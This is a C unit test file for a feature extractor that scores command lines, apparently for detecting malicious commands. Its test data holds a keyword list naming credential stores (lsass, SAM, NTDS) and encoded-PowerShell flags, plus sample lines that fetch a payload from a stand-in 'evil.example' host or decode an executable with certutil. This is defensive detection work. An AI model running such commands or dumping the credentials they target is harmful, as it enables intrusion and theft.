#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>

#include <cmocka.h>
#undef fail

#include "features/extractor.h"
#include "support/rng.h"

#include <math.h>
#include <stdio.h>
#include <stdlib.h>

enum { MAX_COLUMNS = 256 };

static const struct extractor *expert(void)
{
    return (const struct extractor *)(const void *)plugin_find(extractor_list(), "expert");
}

static size_t column_of(const char *name)
{
    size_t n = expert()->width(NULL), i;
    for (i = 0; i < n; i++) {
        char column[64];
        expert()->column(NULL, i, column);
        if (strcmp(column, name) == 0)
            break;
    }
    assert_true(i < n);
    return i;
}

static double feature_n(struct str line, const char *name)
{
    float out[MAX_COLUMNS];
    assert_true(expert()->width(NULL) <= MAX_COLUMNS);
    expert()->row(NULL, NULL, line, out);
    return (double)out[column_of(name)];
}

static double feature(const char *line, const char *name)
{
    return feature_n(str_of(line), name);
}

static bool near(double a, double b)
{
    return fabs(a - b) < 1e-6;
}

static void test_shape_by_hand(void **state)
{
    (void)state;
    const char *line = "AbC%9 >-x"; /* 9 bytes: 2 upper, 2 lower, 3 operators, all different */
    assert_true(near(feature(line, "length"), 9));
    assert_true(near(feature(line, "upper_share"), 2.0 / 9));
    assert_true(near(feature(line, "lower_share"), 2.0 / 9));
    assert_true(near(feature(line, "operator_share"), 3.0 / 9));
    assert_true(near(feature(line, "entropy"), log2(9)));
    assert_true(near(feature("%*^`/+-=>", "operator_share"), 1));
    assert_true(near(feature("aabb", "entropy"), 1));
    assert_true(near(feature("aaaaaaaa", "entropy"), 0));
    assert_true(near(feature("aab", "entropy"), log2(3) - 2.0 / 3));
    static const char *const shape[] = {"length", "operator_share", "upper_share", "lower_share", "entropy"};
    for (size_t i = 0; i < ARRAY_LEN(shape); i++)
        assert_true(feature("", shape[i]) == 0);
}

static void test_counts_every_printable_character(void **state)
{
    (void)state;
    char line[3 * 256];
    size_t n = 0;
    for (int c = 0; c < 256; c++)
        for (int i = 0; i < c % 4; i++)
            line[n++] = (char)c;
    for (int c = 32; c <= 126; c++) {
        char name[64];
        snprintf(name, sizeof name, "char[%c]", c);
        assert_true(feature_n((struct str){line, n}, name) == c % 4);
    }
}

/* More of one byte than a small counter could hold. */
static void test_counts_long_lines(void **state)
{
    (void)state;
    size_t n = 1 << 20;
    char *line = malloc(n);
    assert_non_null(line);
    memset(line, 'e', n);
    memset(line + 1000, ';', 70001);
    struct str s = {line, n};
    assert_true(feature_n(s, "length") == (double)n);
    assert_true(feature_n(s, "char[;]") == 70001);
    assert_true(feature_n(s, "char[e]") == (double)n - 70001);
    assert_true(feature_n(s, "marker[;;]") == 70000);
    double p = 70001 / (double)n;
    assert_true(near(feature_n(s, "entropy"), -p * log2(p) - (1 - p) * log2(1 - p)));
    free(line);
}

static const char *const markers[] = {
    "echo",
    "replace",
    "#",
    " -e ",
    " -ec ",
    " -enc ",
    " -encodedcommand ",
    "frombase64string(",
    "^",
    "\"\"",
    "set",
    "&&",
    "&&for",
    "for %",
    ";;",
    "http",
    "www.",
    ".com",
    "html",
    "tcp",
    "udp",
    "lsass",
    "samsrv",
    "hklm\\sam",
    "winlogon",
    "netlogon",
    "kerberos.dll",
    "dump",
    ".bin",
    "ntds",
};

static double marker(const char *line, const char *text)
{
    char name[64];
    snprintf(name, sizeof name, "marker[%s]", text);
    return feature(line, name);
}

static void test_every_marker_is_counted(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(markers); i++) {
        const char *m = markers[i];
        char line[256], upper[64] = "", cut[64];
        size_t n = strlen(m);
        for (size_t j = 0; j < n; j++)
            upper[j] = (char)(m[j] >= 'a' && m[j] <= 'z' ? m[j] - 'a' + 'A' : m[j]);
        snprintf(line, sizeof line, "%s.1.%s.2.%s", m, upper, m);
        assert_true(marker(m, m) == 1);
        assert_true(marker(line, m) == 3);
        assert_true(marker("", m) == 0);
        snprintf(cut, sizeof cut, "%.*s", (int)n - 1, m);
        assert_true(marker(cut, m) == 0);
        assert_true(marker(m + 1, m) == 0);
        assert_true(marker("C:\\Windows\\explorer.exe /factory", m) == 0);
    }
}

static size_t count_slowly(struct str line, const char *needle)
{
    size_t n = strlen(needle), count = 0;
    for (size_t i = 0; i + n <= line.n; i++) {
        size_t j = 0;
        while (j < n) {
            char c = line.p[i + j];
            if ((c >= 'A' && c <= 'Z' ? c - 'A' + 'a' : c) != needle[j])
                break;
            j++;
        }
        count += j == n;
    }
    return count;
}

/* Random concatenations of pieces of markers against a slow search. */
static void test_markers_agree_with_search(void **state)
{
    (void)state;
    struct rng_state rng = rng_start(1, 2, 3);
    for (int round = 0; round < 500; round++) {
        char line[512];
        size_t n = 0;
        while (n < 400) {
            const char *m = markers[rng_next_below(&rng, ARRAY_LEN(markers))];
            size_t length = strlen(m), from = (size_t)rng_next_below(&rng, 3) == 0 ? 1 : 0;
            length -= rng_next_below(&rng, 3) == 0 ? 1 : 0;
            for (size_t i = from; i < length; i++)
                line[n++] =
                    (char)(rng_next_below(&rng, 4) == 0 && m[i] >= 'a' && m[i] <= 'z' ? m[i] - 'a' + 'A' : m[i]);
        }
        float out[MAX_COLUMNS];
        struct str s = {line, n};
        expert()->row(NULL, NULL, s, out);
        size_t first = column_of("marker[echo]");
        for (size_t i = 0; i < ARRAY_LEN(markers); i++)
            assert_int_equal((size_t)out[first + i], count_slowly(s, markers[i]));
    }
}

static void test_markers_may_overlap(void **state)
{
    (void)state;
    assert_true(marker(";;;;", ";;") == 3);
    assert_true(marker("&&for %a", "&&") == 1);
    assert_true(marker("&&for %a", "&&for") == 1);
    assert_true(marker("&&for %a", "for %") == 1);
    assert_true(marker("x -e -e y", " -e ") == 2);
}

struct example {
    const char *line;
    bool holds;
};

static void check_examples(const char *check, const struct example *example, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        bool right = feature(example[i].line, check) == (example[i].holds ? 1 : 0);
        if (!right)
            print_error("%s is wrong on: %s\n", check, example[i].line);
        assert_true(right);
    }
}

static void test_deliberate_encoding(void **state)
{
    (void)state;
    static const struct example example[] = {
        {"powershell -enc SQBFAFgA", true},
        {"powershell -NoP -EncodedCommand SQBFAFgA", true},
        {"[Convert]::FromBase64String($x)", true},
        {"certutil -decode a.txt a.exe", true},
        {"openssl enc -aes-256-cbc -in a -out b", true},
        {"x aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgbGluZSBvZiB0ZXh0 y", true},
        {"x aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbmcgbGlu3 ", true},
        {"x aGVsbG8gd29ybGQgdGhpcyBpcyBhIGxvbm3 ", false}, /* 35 letters */
        {"sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", false},
        {"grep -e foo bar", false},
        {"notepad.exe C:\\Users\\me\\report.txt", false},
        {"", false},
    };
    check_examples("deliberate_encoding", example, ARRAY_LEN(example));
}

/* Wherever the run lies relative to the probes. */
static void test_base64_run_of_exactly_40(void **state)
{
    (void)state;
    for (int before = 0; before < 90; before++)
        for (int length = 39; length <= 41; length++) {
            char line[256];
            snprintf(line, sizeof line, "%*s%.*s z", before, "", length,
                     "aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3");
            assert_true(feature(line, "deliberate_encoding") == (length >= 40));
            snprintf(line, sizeof line, "%.*s %.*s", before % 40, "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb",
                     length, "aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3aB3");
            assert_true(feature(line, "deliberate_encoding") == (length >= 40));
        }
}

static void test_several_paths(void **state)
{
    (void)state;
    static const struct example example[] = {
        {"copy C:\\a.txt D:\\b.txt", true},
        {"\"C:\\Program Files\\x.exe\" \"\\\\srv\\share\\y.txt\"", true},
        {"cp /etc/hosts /tmp/hosts", true},
        {"tar --file=/tmp/a/x.tar c:/data", true},
        {"C:\\Windows\\system32\\cmd.exe /c dir", false},
        {"C:\\a.txt C:\\", false},
        {"cmd /c /q", false},
        {"http://a.com/x/y http://b.com/x/y", false},
        {"ratio 3:\\4 ab:\\c", false},
        {"", false},
    };
    check_examples("several_paths", example, ARRAY_LEN(example));
}

static void test_remote_executable(void **state)
{
    (void)state;
    static const struct example example[] = {
        {"curl http://evil.example/x/payload.exe", true},
        {"curl 'HTTPS://1.2.3.4:8080/a.PS1?key=1#top' -o x", true},
        {"\\\\files\\tools\\run.bat /s", true},
        {"rundll32 \\\\10.0.0.1\\c$\\a.dll,Start", true},
        {"curl http://evil.com", false},             /* the host's own .com */
        {"curl http://evil.com/?file=a.exe", false}, /* in the query only */
        {"curl http://a.org/index.html", false},
        {"C:\\tools\\run.bat", false},
        {"\\\\?\\C:\\run.bat", false},
        {"gopher://a.org/run.exe", false},
        {"http:///run.exe", false},
        {"", false},
    };
    check_examples("remote_executable", example, ARRAY_LEN(example));
}

static void test_host_and_path(void **state)
{
    (void)state;
    static const struct example example[] = {
        {"curl http://a.org/x -o C:\\x", true},
        {"curl http://a.org/x http://A.ORG/y -o C:\\x", true}, /* one host, twice */
        {"scp me@db.example.com /var/tmp/x", true},
        {"robocopy \\\\srv\\share C:\\backup", true},
        {"ping 10.0.0.255 > C:\\log.txt", true},
        {"curl http://a.org/x http://b.org/y -o C:\\x", false},
        {"curl http://a.org/x", false},
        {"C:\\x\\more.com /q", false},
        {"run 10.0.0.256 C:\\x", false},
        {"run 1.2.3 C:\\x", false},
        {"run setup.exe C:\\x", false},
        {"run .com C:\\x", false},
        {"", false},
    };
    check_examples("host_and_path", example, ARRAY_LEN(example));
}

static void test_counts_ignore_order(void **state)
{
    (void)state;
    struct rng_state rng = rng_start(7, 7, 7);
    size_t markers_at = column_of("marker[echo]");
    for (int round = 0; round < 50; round++) {
        char line[300];
        for (size_t i = 0; i < sizeof line; i++)
            line[i] = (char)rng_next_below(&rng, 256);
        float a[MAX_COLUMNS], b[MAX_COLUMNS];
        expert()->row(NULL, NULL, (struct str){line, sizeof line}, a);
        for (size_t i = sizeof line; i > 1; i--) {
            size_t j = (size_t)rng_next_below(&rng, i);
            char c = line[i - 1];
            line[i - 1] = line[j];
            line[j] = c;
        }
        expert()->row(NULL, NULL, (struct str){line, sizeof line}, b);
        assert_memory_equal(a, b, markers_at * sizeof a[0]);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_shape_by_hand),
        cmocka_unit_test(test_counts_every_printable_character),
        cmocka_unit_test(test_counts_long_lines),
        cmocka_unit_test(test_every_marker_is_counted),
        cmocka_unit_test(test_markers_agree_with_search),
        cmocka_unit_test(test_markers_may_overlap),
        cmocka_unit_test(test_deliberate_encoding),
        cmocka_unit_test(test_base64_run_of_exactly_40),
        cmocka_unit_test(test_several_paths),
        cmocka_unit_test(test_remote_executable),
        cmocka_unit_test(test_host_and_path),
        cmocka_unit_test(test_counts_ignore_order),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
